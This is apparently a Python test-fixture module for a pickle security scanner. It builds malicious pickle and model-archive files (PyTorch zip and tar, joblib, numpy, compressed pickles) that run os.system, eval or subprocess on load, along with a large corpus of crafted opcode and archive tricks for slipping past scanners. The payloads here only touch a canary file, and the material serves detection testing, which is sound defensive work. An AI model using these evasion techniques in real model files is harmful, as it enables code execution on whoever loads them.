"""Pickles made to attack whoever loads them, and benign and broken ones, for the pickle-scan tests.

Each malicious payload, if it were ever unpickled, would create the file `canary` names (through
`os.system`, `builtins.eval`, `subprocess.Popen` or `runpy._run_code`); the tests only ever hand the
bytes to the scanner and then check that the canary never appeared. Every payload comes both as a raw
pickle and inside a PyTorch-style zip archive (`archive/data.pkl`), as `torch.save` writes it.
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import runpy
import subprocess
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch


class _Reduce:
    """An object whose pickle calls `func(*args)` when loaded."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.func, self.args


def _touch_code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def payloads(canary: Path) -> dict[str, Any]:
    """name -> an object whose pickle creates `canary` when loaded, one per dangerous callable."""
    code = _touch_code(canary)
    return {
        "os_system": _Reduce(os.system, f"touch {canary}"),
        "builtins_eval": _Reduce(eval, code),
        "subprocess_popen": _Reduce(subprocess.Popen, [sys.executable, "-c", code]),
        "runpy_run_code": _Reduce(runpy._run_code, code, {}),  # type: ignore[attr-defined]
    }


# The callable each payload's pickle imports: picklescan names its module as the pickle does
# (`posix.system`; `__builtin__.eval` and `commands.Popen` under protocol 2).
PAYLOAD_GLOBALS = {
    "os_system": ".system",
    "builtins_eval": ".eval",
    "subprocess_popen": ".Popen",
    "runpy_run_code": "runpy._run_code",
}


def raw_pickle(obj: Any) -> bytes:
    return pickle.dumps({"state": obj}, protocol=4)


def torch_zip(obj: Any) -> bytes:
    """A PyTorch-style zip archive whose `archive/data.pkl` pickles `obj`, written by hand (no torch.save,
    so nothing of torch's own checks stands between the payload and the file)."""
    return archive_of(pickle.dumps(obj, protocol=2))


def archive_of(data_pkl: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    """A PyTorch-style zip archive holding `data_pkl` as its `archive/data.pkl`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return buffer.getvalue()


def benign_state_dict() -> bytes:
    """A real `torch.save` of a small state dict: only torch's own rebuild functions and OrderedDict."""
    buffer = io.BytesIO()
    torch.save(torch.nn.Linear(4, 2).state_dict(), buffer)
    return buffer.getvalue()


def corrupt() -> bytes:
    """Not a pickle nor an archive: a PROTO opcode, then bytes no pickle holds."""
    return b"\x80\x04" + bytes(range(0xFF, 0xB0, -1)) * 8


def truncated() -> bytes:
    """A real `torch.save` cut in the middle: its zip directory is gone."""
    whole = benign_state_dict()
    return whole[: len(whole) // 2]


def oversized(size: int) -> bytes:
    """`size` bytes starting like a pickle: only its size matters."""
    return b"\x80\x04" + b"\x00" * (size - 2)


def opcode_dense(opcodes: int) -> bytes:
    """A valid pickle of about `opcodes` one-byte opcodes (None pushed and popped), no import at all."""
    return b"\x80\x04" + b"N0" * (opcodes // 2) + b"N."


def zip_bomb(expanded: int) -> bytes:
    """A small zip archive whose pickle member expands to `expanded` bytes."""
    return archive_of(opcode_dense(expanded), zipfile.ZIP_DEFLATED)


# -- The bypass corpus: one crafted file per published way of hiding a payload from a scanner. --------------
# Each `build(canary)` returns the bytes of a file that creates `canary` when its `loader` loads it.


@dataclass(frozen=True)
class Crafted:
    """A crafted file: its name in a repository, its bytes and the loader that runs its payload
    (`pickle`, `torch`, `joblib`, `numpy`, `pandas`, `zip:MEMBER` or `tar:MEMBER`: that member loaded
    with torch.load)."""

    name: str
    filename: str
    loader: str
    build: Callable[[Path], bytes]


# The endings joblib gives each compression when it names the file.
JOBLIB_EXTENSIONS = {"zlib": ".z", "gzip": ".gz", "bz2": ".bz2", "xz": ".xz", "lz4": ".lz4"}


def _shell(canary: Path) -> str:
    return f"touch {canary}"


def _global0(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _string0(text: str) -> bytes:
    return b"S" + repr(text).encode() + b"\n"


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def _call0(module: str, name: str, *args: str) -> bytes:
    """Protocol 0 opcodes that call `module.name(*args)` and leave the result on the stack."""
    return _global0(module, name) + b"(" + b"".join(_string0(a) for a in args) + b"tR"


def _stack_call(module: str, name: str, *args: str) -> bytes:
    """Protocol 4 opcodes: STACK_GLOBAL of (module, name) called with string args."""
    return _unicode(module) + _unicode(name) + b"\x93(" + b"".join(_unicode(a) for a in args) + b"tR"


def _p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def _zip_of(entries: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a repeated name, which is the point
        with zipfile.ZipFile(buffer, "w", compression) as archive:
            for name, data in entries:
                archive.writestr(name, data)
    return buffer.getvalue()


def _torch_entries(data_pkl: bytes, data_name: str = "archive/data.pkl") -> list[tuple[str, bytes]]:
    return [(data_name, data_pkl), ("archive/version", b"3\n"), ("archive/byteorder", b"little")]


def _evil_pickle(canary: Path) -> bytes:
    return pickle.dumps(_Reduce(os.system, _shell(canary)), protocol=2)


def _benign_pickle() -> bytes:
    return pickle.dumps({"weight": [0.0, 1.0]}, protocol=2)


def _legacy_torch(first: bytes, second: bytes) -> bytes:
    """The head of torch's legacy (non-zip) format: the magic number pickle, then the protocol pickle."""
    return first + second + pickle.dumps({}, protocol=2) + pickle.dumps({}, protocol=2)


_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C


def _memo_across_pickles(canary: Path) -> bytes:
    # The first pickle memoizes harmless names and yields the magic number; the second reads slots 0
    # and 1 of its own, fresh memo: a scanner that carries the memo over sees the harmless names.
    first = (
        b"\x80\x02"
        + _unicode("collections")
        + b"\x94"
        + _unicode("OrderedDict")
        + b"\x940"
        + b"0"
        + b"\x8a\x0a"
        + _MAGIC_NUMBER.to_bytes(10, "little")
        + b"."
    )
    second = _p4(
        _unicode("os")
        + b"\x94"
        + _unicode("system")
        + b"\x94"
        + b"00h\x00h\x01\x93"
        + _unicode(_shell(canary))
        + b"\x85R"
    )
    return _legacy_torch(first, second)


def _second_pickle(canary: Path) -> bytes:
    return _legacy_torch(pickle.dumps(_MAGIC_NUMBER, protocol=2), _evil_pickle(canary))


def _local_name_mismatch(canary: Path) -> bytes:
    data = bytearray(_zip_of(_torch_entries(_evil_pickle(canary))))
    at = data.index(b"PK\x03\x04")
    name_at = at + 30
    assert data[name_at : name_at + 16] == b"archive/data.pkl"
    data[name_at : name_at + 16] = b"archive/data.txt"
    return bytes(data)


def _bad_crc(canary: Path) -> bytes:
    data = bytearray(_zip_of(_torch_entries(_evil_pickle(canary))))
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    for crc_at in (local + 14, central + 16):
        data[crc_at : crc_at + 4] = bytes(4)
    return bytes(data)


def _tar_of(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _legacy_tar(canary: Path) -> bytes:
    """torch's oldest format, a tar: `storages` is unpickled first."""
    entries = [
        ("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
        ("storages", _evil_pickle(canary)),
    ]
    return _tar_of(
        [*entries, ("tensors", pickle.dumps(0, protocol=2)), ("pickle", pickle.dumps({}, protocol=2))]
    )


def _legacy_tar_second_storage(canary: Path) -> bytes:
    """The legacy tar with the payload in the arguments of its second storage, after the first
    storage's raw bytes: a scanner that stops at the raw bytes never reaches it."""
    first = b"\x80\x02(" + _unicode("0") + _unicode("cpu") + _global0("torch", "FloatStorage") + b"t."
    one_float = (1).to_bytes(8, "little") + bytes(4)
    storages = pickle.dumps(2, protocol=2) + first + one_float + _evil_pickle(canary)
    return _tar_of(
        [
            ("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
            ("storages", storages),
            ("tensors", pickle.dumps(0, protocol=2)),
            ("pickle", pickle.dumps({}, protocol=2)),
        ]
    )


def _joblib(obj: Any, compress: Any = 0) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(obj, buffer, compress=compress)
    return buffer.getvalue()


def _joblib_padding_opcodes(canary: Path) -> bytes:
    """A joblib dump whose array padding is opcodes: joblib reads it as padding, `pickle.load` runs it."""
    import numpy

    marker = bytes(range(8))
    dumped = _joblib({"w": numpy.frombuffer(marker, dtype=numpy.uint8)})
    command = _shell(canary).encode()
    opcodes = b"os\nsystem\n\x8c" + bytes([len(command)]) + command + b"\x85R."
    padding_length = ord("c")  # GLOBAL to pickle.load, a padding length to joblib
    assert len(opcodes) <= padding_length, "canary path too long for the padding"
    for old in range(16):
        region = bytes([old]) + b"\xff" * old + marker
        if region in dumped:
            crafted = b"c" + opcodes.ljust(padding_length, b"\xff") + marker
            return dumped.replace(region, crafted, 1)
    raise AssertionError("joblib wrote no alignment padding")


def _npy(obj: Any) -> bytes:
    import numpy

    buffer = io.BytesIO()
    numpy.save(buffer, obj, allow_pickle=True)
    return buffer.getvalue()


def _object_array(item: Any) -> Any:
    import numpy

    array = numpy.empty(1, dtype=object)
    array[0] = item
    return array


def _evil(canary: Path) -> _Reduce:
    return _Reduce(os.system, _shell(canary))


def _compressed(kind: str, data: bytes) -> bytes:
    import bz2
    import gzip
    import lzma

    return {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}[kind](data)


def _proto(body: bytes) -> Callable[[Path], bytes]:
    return lambda canary: body


def _opcode_crafted(canary: Path) -> dict[str, bytes]:
    shell, code = _shell(canary), _touch_code(canary)
    timer = _unicode("time") + _unicode("perf_counter") + b"\x93"
    marshalled = marshal.dumps(compile(code, "<payload>", "exec"))
    return {
        "proto0_without_header": _call0("os", "system", shell) + b".",
        "proto1_without_header": _global0("os", "system")
        + b"(U"
        + bytes([len(shell)])
        + shell.encode()
        + b"tR.",
        "py2_builtin_name": _call0("__builtin__", "eval", code) + b".",
        "inst_opcode": b"(" + _string0(shell) + b"ios\nsystem\n.",
        "obj_opcode": b"(" + _global0("os", "system") + _string0(shell) + b"o.",
        "stack_global_through_memo": _p4(
            _unicode("os")
            + b"\x94"
            + _unicode("system")
            + b"\x9400h\x00h\x01\x93"
            + _unicode(shell)
            + b"\x85R"
        ),
        "stack_global_computed_name": _p4(
            _call0("builtins", "str", "os") + _unicode("system") + b"\x93" + _unicode(shell) + b"\x85R"
        ),
        "getattr_of_import": b"\x80\x02"
        + _global0("builtins", "getattr")
        + b"("
        + _call0("builtins", "__import__", "os")
        + _string0("system")
        + b"tR("
        + _string0(shell)
        + b"tR.",
        "attribute_chain_through_module": _p4(_stack_call("logging", "os.system", shell)),
        "builtins_exec": _p4(_stack_call("builtins", "exec", code)),
        "io_fileio_creates_file": _p4(_stack_call("_io", "FileIO", str(canary), "w")),
        "numpy_runstring": _p4(
            _unicode("numpy.testing._private.utils")
            + _unicode("runstring")
            + b"\x93("
            + _unicode(code)
            + b"}tR"
        ),
        "pydoc_pipepager": _p4(_stack_call("pydoc", "pipepager", "", shell)),
        "timeit_timer": _p4(
            _unicode("timeit")
            + _unicode("timeit")
            + b"\x93("
            + _unicode(code)
            + _unicode("pass")
            + timer
            + b"K\x01tR"
        ),
        "cprofile_run": _p4(_stack_call("cProfile", "run", code)),
        "functools_partial": b"\x80\x02"
        + _global0("functools", "partial")
        + b"("
        + _global0("os", "system")
        + _string0(shell)
        + b"tR)R.",
        "operator_methodcaller": b"\x80\x02"
        + _global0("operator", "methodcaller")
        + b"("
        + _string0("system")
        + _string0(shell)
        + b"tR("
        + _call0("builtins", "__import__", "os")
        + b"tR.",
        "importlib_then_getattr": b"\x80\x02"
        + _global0("builtins", "getattr")
        + b"("
        + _call0("importlib", "import_module", "os")
        + _string0("system")
        + b"tR("
        + _string0(shell)
        + b"tR.",
        "nested_pickle_loads": b"\x80\x03"
        + _global0("pickle", "loads")
        + b"(C"
        + bytes([len(_evil_pickle(canary))])
        + _evil_pickle(canary)
        + b"tR.",
        "shutil_copy_to_canary": _p4(_stack_call("shutil", "copyfile", sys.executable, str(canary))),
        "memo_put_and_memoize_mixed": _p4(
            _unicode("os")
            + b"q\x00"
            + _unicode("system")
            + b"q\x01"
            + _unicode("torch._utils")
            + b"\x94"
            + _unicode("_rebuild_tensor_v2")
            + b"\x940000h\x00h\x01\x93"
            + _unicode(shell)
            + b"\x85R"
        ),
        "build_sets_attributes_of_a_global": b"\x80\x04"
        + _global0("numpy", "prod")
        + b"N(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0"
        + _global0("numpy", "prod.a")
        + b"p0\n"
        + _global0("numpy", "prod.b")
        + b"p1\n00g0\ng1\n\x93"
        + _unicode(shell)
        + b"\x85R.",
        "marshal_code_object": b"\x80\x03"
        + _global0("types", "FunctionType")
        + b"("
        + _global0("marshal", "loads")
        + b"(B"
        + len(marshalled).to_bytes(4, "little")
        + marshalled
        + b"tR}tR)R.",
        "subprocess_popen": pickle.dumps(_Reduce(subprocess.Popen, [sys.executable, "-c", code]), protocol=4),
        "runpy_run_code": pickle.dumps(_Reduce(runpy._run_code, code, {}), protocol=4),  # type: ignore[attr-defined]
        "proto5_framed": pickle.dumps({"w": _evil(canary), "pad": "x" * 70_000}, protocol=5),
    }


def bypass_corpus() -> list[Crafted]:
    """Every bypass class of the corpus, built lazily per canary."""
    corpus = [
        Crafted(name, "model.pkl", "pickle", lambda canary, name=name: _opcode_crafted(canary)[name])
        for name in _opcode_crafted(Path("x"))
    ]
    evil_zip = lambda canary: _zip_of(_torch_entries(_evil_pickle(canary)))  # noqa: E731
    corpus += [
        Crafted("torch_zip_reduce", "pytorch_model.bin", "torch", evil_zip),
        Crafted("torch_zip_pth_tar", "checkpoint.pth.tar", "torch", evil_zip),
        Crafted(
            "torch_zip_deflated",
            "model.pt",
            "torch",
            lambda canary: _zip_of(_torch_entries(_evil_pickle(canary)), zipfile.ZIP_DEFLATED),
        ),
        Crafted(
            "torch_zip_attribute_chain",
            "model.pt",
            "torch",
            lambda canary: _zip_of(
                _torch_entries(_p4(_stack_call("torch", "serialization.os.system", _shell(canary))))
            ),
        ),
        Crafted(
            "zip_duplicate_name",
            "pytorch_model.bin",
            "torch",
            # torch reads the first entry of the name; zipfile (by name) the last
            lambda canary: _zip_of(
                [("archive/data.pkl", _evil_pickle(canary)), *_torch_entries(_benign_pickle())]
            ),
        ),
        Crafted(
            "zip_case_variant_name",
            "pytorch_model.bin",
            "torch",
            lambda canary: _zip_of(_torch_entries(_evil_pickle(canary), "archive/DATA.PKL")),
        ),
        Crafted("zip_local_header_name_differs", "pytorch_model.bin", "torch", _local_name_mismatch),
        Crafted("zip_bad_crc", "pytorch_model.bin", "torch", _bad_crc),
        Crafted("legacy_second_pickle", "model.pt", "torch", _second_pickle),
        Crafted("legacy_memo_across_pickles", "model.pt", "torch", _memo_across_pickles),
        Crafted("legacy_tar_checkpoint", "model.pth.tar", "torch", _legacy_tar),
        Crafted("legacy_tar_second_storage", "model.pth.tar", "torch", _legacy_tar_second_storage),
        Crafted(
            "nemo_tar_with_checkpoint",
            "model.nemo",
            "tar:./model_weights.ckpt",
            lambda canary: _tar_of(
                [("./model_config.yaml", b"name: x\n"), ("./model_weights.ckpt", evil_zip(canary))]
            ),
        ),
        Crafted(
            "mar_with_checkpoint",
            "model.mar",
            "zip:model.pt",
            lambda canary: _zip_of(
                [("MAR-INF/MANIFEST.json", b"{}"), ("model.pt", evil_zip(canary)), ("handler.py", b"")]
            ),
        ),
        Crafted(
            "zip_with_checkpoint",
            "weights.zip",
            "zip:checkpoint/model.pt",
            lambda canary: _zip_of([("checkpoint/model.pt", evil_zip(canary))], zipfile.ZIP_DEFLATED),
        ),
        Crafted("joblib_plain", "model.joblib", "joblib", lambda canary: _joblib(_evil(canary))),
        Crafted(
            "joblib_after_array",
            "model.joblib",
            "joblib",
            lambda canary: _joblib({"w": __import__("numpy").arange(4096.0), "x": _evil(canary)}),
        ),
        Crafted(
            "joblib_object_array",
            "model.joblib",
            "joblib",
            lambda canary: _joblib({"w": _object_array(_evil(canary))}),
        ),
        *[
            Crafted(
                f"joblib_{method}",
                f"model.joblib{JOBLIB_EXTENSIONS[method]}",
                "joblib",
                lambda canary, method=method: _joblib(_evil(canary), (method, 3)),
            )
            for method in ("zlib", "gzip", "bz2", "xz", "lz4")
        ],
        Crafted("joblib_padding_read_by_pickle_load", "model.pkl", "pickle", _joblib_padding_opcodes),
        Crafted("npy_object_array", "array.npy", "numpy", lambda canary: _npy(_object_array(_evil(canary)))),
        Crafted(
            "npz_member",
            "arrays.npz",
            "numpy",
            lambda canary: _zip_of([("arr_0.npy", _npy(_object_array(_evil(canary))))]),
        ),
        Crafted(
            "npz_member_without_suffix",
            "arrays.npz",
            "numpy",
            lambda canary: _zip_of([("weights", _npy(_object_array(_evil(canary))))]),
        ),
        *[
            Crafted(
                f"pickle_{kind}",
                f"model.pkl.{kind}",
                "pandas",
                lambda c, kind=kind: _compressed(kind, _evil_pickle(c)),
            )
            for kind in ("gz", "bz2", "xz")
        ],
    ]
    return corpus
